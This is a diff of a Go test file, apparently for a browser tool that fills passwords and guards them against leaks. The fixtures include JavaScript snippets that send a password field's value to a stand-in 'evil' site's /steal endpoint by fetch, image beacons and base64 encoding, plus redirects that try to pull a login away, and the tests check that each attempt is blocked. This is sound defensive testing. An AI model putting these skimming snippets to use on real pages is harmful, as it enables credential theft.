@@ -16,15 +16,15 @@ import (
 // placeholder send it where it likes.
 func TestAPlaceholderIsStoppedOnEveryOtherWay(t *testing.T) {
 	ctx, p, b := openPage(t)
-	evil := newSite(t, nil)
+	evil := NewSite(t, nil)
 	cors := func(w http.ResponseWriter, _ *http.Request) {
 		w.Header().Set("Access-Control-Allow-Origin", "*")
 		w.Header().Set("Access-Control-Allow-Headers", "*")
 	}
-	evil.handlers["/steal"] = cors
+	evil.Handlers["/steal"] = cors
 	const start = `<form id=f method=post action=/login><input type=password name=p id=p aria-label=Password><button>Log in</button></form><p id=out>ready</p><script>
 const steal = u => `
-	s := newSite(t, map[string]string{
+	s := NewSite(t, map[string]string{
 		"/post":   start + `fetch(u, {method: 'POST', body: JSON.stringify({p: p.value})});`,
 		"/image":  start + `{ new Image().src = u + '?' + p.value };`,
 		"/coded":  start + `{ new Image().src = u + '?' + btoa('x' + p.value) };`,
@@ -40,24 +40,24 @@ const steal = u => `
 		"/basic":  start + `fetch('/login', {method: 'POST', headers: {Authorization: 'Basic ' + btoa('u:' + p.value)}});`,
 		"/key":    start + `fetch('/login', {method: 'POST', body: JSON.stringify({[p.value]: 1})});`,
 	})
-	for path := range s.pages {
-		s.pages[path] += "</script><button onclick=\"steal('" + evil.URL + "/steal')\">Steal</button>"
+	for path := range s.Pages {
+		s.Pages[path] += "</script><button onclick=\"steal('" + evil.URL + "/steal')\">Steal</button>"
 	}
-	for path := range s.pages {
+	for path := range s.Pages {
 		obs := open(ctx, t, p, s.URL+path)
-		require.NoError(t, p.Fill(ctx, find(t, obs, "textbox", "Password").Ref, login("password", hunter, s.URL)), path)
-		placeholder, _, _ := strings.Cut(values(ctx, t, b), "\n")
+		require.NoError(t, p.Fill(ctx, Find(t, obs, "textbox", "Password").Ref, Login("password", Hunter, s.URL)), path)
+		placeholder, _, _ := strings.Cut(InputValues(ctx, t, b), "\n")
 		require.GreaterOrEqual(t, len(placeholder), 16, path)
-		require.NoError(t, p.Click(ctx, find(t, obs, "button", "Steal").Ref), path)
+		require.NoError(t, p.Click(ctx, Find(t, obs, "button", "Steal").Ref), path)
 		blocked := false
 		require.Eventually(t, func() bool {
-			blocked = blocked || strings.Contains(observe(ctx, t, p).Outline, "note: blocked: ")
+			blocked = blocked || strings.Contains(Observe(ctx, t, p).Outline, "note: blocked: ")
 			return blocked
 		}, 10*time.Second, 20*time.Millisecond, path)
-		for _, text := range []string{evil.everything(), fmt.Sprint(s.to("/login")), fmt.Sprint(s.to(path)[1:])} {
+		for _, text := range []string{evil.All(), fmt.Sprint(s.RequestsTo("/login")), fmt.Sprint(s.RequestsTo(path)[1:])} {
 			require.False(t, strings.Contains(text, placeholder), path)
 			require.False(t, strings.Contains(text, base64.StdEncoding.EncodeToString([]byte("x"+placeholder))), path)
-			requireUnseen(t, hunter, text)
+			RequireUnseen(t, Hunter, text)
 		}
 	}
 }
@@ -65,37 +65,37 @@ const steal = u => `
 // TestASwappedRequestIsNotRedirectedAway answers a login with redirects.
 func TestASwappedRequestIsNotRedirectedAway(t *testing.T) {
 	ctx, p, _ := openPage(t)
-	evil := newSite(t, map[string]string{"/steal": "stolen"})
-	s := newSite(t, map[string]string{
+	evil := NewSite(t, map[string]string{"/steal": "stolen"})
+	s := NewSite(t, map[string]string{
 		"/form":  `<form method=post action=/away><input type=password name=p aria-label=Password><button>Log in</button></form>`,
 		"/fetch": `<form id=f><input type=password name=p aria-label=Password><button>Log in</button></form><script>f.onsubmit = e => { e.preventDefault(); fetch('/away', {method: 'POST', mode: 'no-cors', body: new URLSearchParams(new FormData(f))}) }</script>`,
 		"/near":  `<form method=post action=/moved><input type=password name=p aria-label=Password><button>Log in</button></form>`,
 		"/there": "<h1>Welcome</h1>",
 	})
-	s.handlers["/away"] = func(w http.ResponseWriter, r *http.Request) {
+	s.Handlers["/away"] = func(w http.ResponseWriter, r *http.Request) {
 		http.Redirect(w, r, evil.URL+"/steal", http.StatusTemporaryRedirect)
 	}
-	s.handlers["/moved"] = func(w http.ResponseWriter, r *http.Request) {
+	s.Handlers["/moved"] = func(w http.ResponseWriter, r *http.Request) {
 		http.Redirect(w, r, "/there", http.StatusPermanentRedirect)
 	}
 	for _, path := range []string{"/form", "/fetch"} {
 		obs := open(ctx, t, p, s.URL+path)
-		require.NoError(t, p.Fill(ctx, find(t, obs, "textbox", "Password").Ref, login("password", hunter, s.URL)))
-		require.NoError(t, p.Click(ctx, find(t, obs, "button", "Log in").Ref))
-		require.Eventually(t, func() bool { return strings.Contains(observe(ctx, t, p).Outline, "a redirect that would take") }, 10*time.Second, 20*time.Millisecond, path)
-		require.Empty(t, evil.to("/steal"), path)
+		require.NoError(t, p.Fill(ctx, Find(t, obs, "textbox", "Password").Ref, Login("password", Hunter, s.URL)))
+		require.NoError(t, p.Click(ctx, Find(t, obs, "button", "Log in").Ref))
+		require.Eventually(t, func() bool { return strings.Contains(Observe(ctx, t, p).Outline, "a redirect that would take") }, 10*time.Second, 20*time.Millisecond, path)
+		require.Empty(t, evil.RequestsTo("/steal"), path)
 	}
-	require.Len(t, s.to("/away"), 2)
+	require.Len(t, s.RequestsTo("/away"), 2)
 
 	obs := open(ctx, t, p, s.URL+"/near")
-	require.NoError(t, p.Fill(ctx, find(t, obs, "textbox", "Password").Ref, login("password", hunter, s.URL)))
-	require.NoError(t, p.Click(ctx, find(t, obs, "button", "Log in").Ref))
-	require.Contains(t, settle(ctx, t, p).Outline, "Welcome")
-	there := s.to("/there")
+	require.NoError(t, p.Fill(ctx, Find(t, obs, "textbox", "Password").Ref, Login("password", Hunter, s.URL)))
+	require.NoError(t, p.Click(ctx, Find(t, obs, "button", "Log in").Ref))
+	require.Contains(t, Settle(ctx, t, p).Outline, "Welcome")
+	there := s.RequestsTo("/there")
 	require.Len(t, there, 1)
-	got, err := url.ParseQuery(there[0].body)
+	got, err := url.ParseQuery(there[0].Body)
 	require.NoError(t, err)
-	require.True(t, got.Get("p") == hunter, "a redirect within the site takes the value along")
+	require.True(t, got.Get("p") == Hunter, "a redirect within the site takes the value along")
 }
 
 // TestEchoedSecretsAreScrubbed shows a password in a page in every way that a
@@ -103,8 +103,8 @@ func TestASwappedRequestIsNotRedirectedAway(t *testing.T) {
 func TestEchoedSecretsAreScrubbed(t *testing.T) {
 	ctx, p, _ := openPage(t)
 	const secret = "correct-Horse_7.battery"
-	s := newSite(t, map[string]string{"/": `<form method=post action=/login><input type=password name=p aria-label=Password><button>Log in</button></form>`})
-	s.handlers["/login"] = func(w http.ResponseWriter, r *http.Request) {
+	s := NewSite(t, map[string]string{"/": `<form method=post action=/login><input type=password name=p aria-label=Password><button>Log in</button></form>`})
+	s.Handlers["/login"] = func(w http.ResponseWriter, r *http.Request) {
 		_ = r.ParseForm()
 		pw := r.PostForm.Get("p")
 		w.Header().Set("Content-Type", "text/html")
@@ -113,88 +113,88 @@ func TestEchoedSecretsAreScrubbed(t *testing.T) {
 			pw, base64.StdEncoding.EncodeToString([]byte("user:"+pw)))
 	}
 	obs := open(ctx, t, p, s.URL+"/")
-	require.NoError(t, p.Fill(ctx, find(t, obs, "textbox", "Password").Ref, login("password", secret, s.URL)))
-	require.NoError(t, p.Click(ctx, find(t, obs, "button", "Log in").Ref))
-	obs = settle(ctx, t, p)
-	requireUnseen(t, secret, obs.Outline, obs.URL, obs.Title, fmt.Sprint(obs.Elements))
+	require.NoError(t, p.Fill(ctx, Find(t, obs, "textbox", "Password").Ref, Login("password", secret, s.URL)))
+	require.NoError(t, p.Click(ctx, Find(t, obs, "button", "Log in").Ref))
+	obs = Settle(ctx, t, p)
+	RequireUnseen(t, secret, obs.Outline, obs.URL, obs.Title, fmt.Sprint(obs.Elements))
 	require.GreaterOrEqual(t, strings.Count(obs.Outline, "[secret]"), 8)
 	require.Contains(t, obs.Outline, "Wrong password [secret].")
 	require.Equal(t, "Wrong: [secret]", obs.Title)
 
 	shot, err := p.Screenshot(ctx, false)
 	require.NoError(t, err)
-	require.Greater(t, masked(t, shot), 5000, "the echoes are painted over")
+	require.Greater(t, MaskedPixels(t, shot), 5000, "the echoes are painted over")
 
 	err = p.Click(ctx, "e1")
 	require.Error(t, err)
-	requireUnseen(t, secret, err.Error())
+	RequireUnseen(t, secret, err.Error())
 }
 
 // TestDirectFillTypesTheValueAndGuardsIt opts out of the swap.
 func TestDirectFillTypesTheValueAndGuardsIt(t *testing.T) {
 	ctx, p, b := openPage(t)
-	evil := newSite(t, nil)
-	s := newSite(t, map[string]string{"/": `<form id=f onsubmit="event.preventDefault(); fetch('/login', {method: 'POST', body: '<xml>' + p.value + '</xml>'})"><input type=password id=p aria-label=Password><button>Log in</button></form>
+	evil := NewSite(t, nil)
+	s := NewSite(t, map[string]string{"/": `<form id=f onsubmit="event.preventDefault(); fetch('/login', {method: 'POST', body: '<xml>' + p.value + '</xml>'})"><input type=password id=p aria-label=Password><button>Log in</button></form>
 <button onclick="fetch('` + evil.URL + `/steal', {method: 'POST', mode: 'no-cors', body: p.value})">Steal</button><button onclick="p.type = 'text'">Show</button><input id=copy aria-label=Copy><button onclick="copy.value = p.value">Move</button>`})
 	obs := open(ctx, t, p, s.URL+"/")
-	fill := login("password", hunter, s.URL)
+	fill := Login("password", Hunter, s.URL)
 	fill.Direct = true
-	require.NoError(t, p.Fill(ctx, find(t, obs, "textbox", "Password").Ref, fill))
-	seen, _, _ := strings.Cut(values(ctx, t, b), "\n")
-	require.True(t, seen == hunter, "the page holds the value")
-	require.Empty(t, find(t, observe(ctx, t, p), "textbox", "Copy").Value, "an empty field says so, or nobody would fill it")
+	require.NoError(t, p.Fill(ctx, Find(t, obs, "textbox", "Password").Ref, fill))
+	seen, _, _ := strings.Cut(InputValues(ctx, t, b), "\n")
+	require.True(t, seen == Hunter, "the page holds the value")
+	require.Empty(t, Find(t, Observe(ctx, t, p), "textbox", "Copy").Value, "an empty field says so, or nobody would fill it")
 
 	before, err := p.Screenshot(ctx, true)
 	require.NoError(t, err)
-	require.NoError(t, p.Click(ctx, find(t, obs, "button", "Show").Ref))
-	shown := observe(ctx, t, p)
-	requireUnseen(t, hunter, shown.Outline, fmt.Sprint(shown.Elements))
-	require.Equal(t, "[secret]", find(t, shown, "textbox", "Password").Value)
+	require.NoError(t, p.Click(ctx, Find(t, obs, "button", "Show").Ref))
+	shown := Observe(ctx, t, p)
+	RequireUnseen(t, Hunter, shown.Outline, fmt.Sprint(shown.Elements))
+	require.Equal(t, "[secret]", Find(t, shown, "textbox", "Password").Value)
 	after, err := p.Screenshot(ctx, true)
 	require.NoError(t, err)
-	require.Greater(t, masked(t, before), 1000)
-	require.Greater(t, masked(t, after), 1000)
+	require.Greater(t, MaskedPixels(t, before), 1000)
+	require.Greater(t, MaskedPixels(t, after), 1000)
 
 	// The page moves the value to another field, and the model edits it there.
-	require.NoError(t, p.Click(ctx, find(t, obs, "button", "Move").Ref))
-	moved := find(t, observe(ctx, t, p), "textbox", "Copy")
+	require.NoError(t, p.Click(ctx, Find(t, obs, "button", "Move").Ref))
+	moved := Find(t, Observe(ctx, t, p), "textbox", "Copy")
 	require.Equal(t, "[secret]", moved.Value)
 	require.NoError(t, p.Click(ctx, moved.Ref))
 	for _, key := range []string{"End", "Backspace", "Home", "x"} {
 		require.NoError(t, p.Press(ctx, key))
 	}
-	require.Equal(t, "[secret]", find(t, observe(ctx, t, p), "textbox", "Copy").Value)
+	require.Equal(t, "[secret]", Find(t, Observe(ctx, t, p), "textbox", "Copy").Value)
 	for _, key := range []string{"Control+c", "Control+Shift+X", "Meta+v", "Control+z"} {
 		require.ErrorContains(t, p.Press(ctx, key), "page.key_refused", key)
 	}
 	require.NoError(t, p.Type(ctx, moved.Ref, "my own text"))
-	require.Equal(t, "my own text", find(t, observe(ctx, t, p), "textbox", "Copy").Value)
-	require.NoError(t, p.Click(ctx, find(t, obs, "button", "Move").Ref))
+	require.Equal(t, "my own text", Find(t, Observe(ctx, t, p), "textbox", "Copy").Value)
+	require.NoError(t, p.Click(ctx, Find(t, obs, "button", "Move").Ref))
 	require.NoError(t, p.Click(ctx, moved.Ref))
-	for range len([]rune(hunter)) - 3 {
+	for range len([]rune(Hunter)) - 3 {
 		require.NoError(t, p.Press(ctx, "Backspace"))
 	}
-	require.Equal(t, "[secret]", find(t, observe(ctx, t, p), "textbox", "Copy").Value, "nor where the model has written before")
+	require.Equal(t, "[secret]", Find(t, Observe(ctx, t, p), "textbox", "Copy").Value, "nor where the model has written before")
 
-	require.NoError(t, p.Click(ctx, find(t, obs, "button", "Steal").Ref))
-	require.Contains(t, settle(ctx, t, p).Outline, "note: blocked: ")
-	require.Empty(t, evil.to("/steal"))
-	require.NoError(t, p.Click(ctx, find(t, obs, "button", "Log in").Ref))
-	require.Eventually(t, func() bool { return len(s.to("/login")) == 1 }, 10*time.Second, 10*time.Millisecond)
-	require.True(t, s.to("/login")[0].body == "<xml>"+hunter+"</xml>", "the site received the value as its page wrote it")
+	require.NoError(t, p.Click(ctx, Find(t, obs, "button", "Steal").Ref))
+	require.Contains(t, Settle(ctx, t, p).Outline, "note: blocked: ")
+	require.Empty(t, evil.RequestsTo("/steal"))
+	require.NoError(t, p.Click(ctx, Find(t, obs, "button", "Log in").Ref))
+	require.Eventually(t, func() bool { return len(s.RequestsTo("/login")) == 1 }, 10*time.Second, 10*time.Millisecond)
+	require.True(t, s.RequestsTo("/login")[0].Body == "<xml>"+Hunter+"</xml>", "the site received the value as its page wrote it")
 }
 
 // TestInterceptionEndsWithItsReason counts on requests not being held up for
 // ever after a login.
 func TestInterceptionEndsWithItsReason(t *testing.T) {
 	ctx, p, _ := openPage(t)
-	s := newSite(t, map[string]string{"/": `<form method=post action=/login><input type=password name=p aria-label=Password><button>Log in</button></form>`, "/login": "<h1>Welcome</h1>"})
+	s := NewSite(t, map[string]string{"/": `<form method=post action=/login><input type=password name=p aria-label=Password><button>Log in</button></form>`, "/login": "<h1>Welcome</h1>"})
 	obs := open(ctx, t, p, s.URL+"/")
-	require.NoError(t, p.Fill(ctx, find(t, obs, "textbox", "Password").Ref, login("password", hunter, s.URL)))
-	require.True(t, p.guarded())
-	require.NoError(t, p.Click(ctx, find(t, obs, "button", "Log in").Ref))
-	require.Contains(t, settle(ctx, t, p).Outline, "Welcome")
-	require.Eventually(t, func() bool { return !p.guarded() }, 10*time.Second, 20*time.Millisecond, "the document is gone")
+	require.NoError(t, p.Fill(ctx, Find(t, obs, "textbox", "Password").Ref, Login("password", Hunter, s.URL)))
+	require.True(t, p.Guarded())
+	require.NoError(t, p.Click(ctx, Find(t, obs, "button", "Log in").Ref))
+	require.Contains(t, Settle(ctx, t, p).Outline, "Welcome")
+	require.Eventually(t, func() bool { return !p.Guarded() }, 10*time.Second, 20*time.Millisecond, "the document is gone")
 }
 
 // TestLoginGoesOverSeveralPages fills a name, a password and a code on pages
@@ -204,23 +204,23 @@ func TestLoginGoesOverSeveralPages(t *testing.T) {
 	step := func(next, input string) string {
 		return `<form method=post action=` + next + `>` + input + `<button>Next</button></form>`
 	}
-	s := newSite(t, map[string]string{
+	s := NewSite(t, map[string]string{
 		"/":         step("/password", `<input type=email name=u aria-label=Email>`),
 		"/password": step("/code", `<input type=password name=p aria-label=Password>`),
 		"/code":     step("/done", `<input name=c aria-label=Code maxlength=6>`),
 		"/done":     "<h1>Welcome</h1>",
 	})
 	obs := open(ctx, t, p, s.URL+"/")
-	for _, fill := range []Fill{login("username", "bot@example.com", s.URL), login("password", hunter, s.URL), login("totp", "123456", s.URL)} {
+	for _, fill := range []Fill{Login("username", "bot@example.com", s.URL), Login("password", Hunter, s.URL), Login("totp", "123456", s.URL)} {
 		require.NoError(t, p.Fill(ctx, obs.Elements[0].Ref, fill))
 		require.NoError(t, p.Press(ctx, "Enter"))
-		obs = settle(ctx, t, p)
+		obs = Settle(ctx, t, p)
 	}
 	require.Contains(t, obs.Outline, "Welcome")
-	require.True(t, s.to("/password")[0].body == "u=bot%40example.com")
-	require.True(t, s.to("/code")[0].body == "p="+url.QueryEscape(hunter))
-	require.True(t, s.to("/done")[0].body == "c=123456")
-	for _, r := range s.seen {
-		requireUnseen(t, hunter, r.query, r.referer, r.path)
+	require.True(t, s.RequestsTo("/password")[0].Body == "u=bot%40example.com")
+	require.True(t, s.RequestsTo("/code")[0].Body == "p="+url.QueryEscape(Hunter))
+	require.True(t, s.RequestsTo("/done")[0].Body == "c=123456")
+	for _, r := range s.Seen {
+		RequireUnseen(t, Hunter, r.Query, r.Referer, r.Path)
 	}
 }
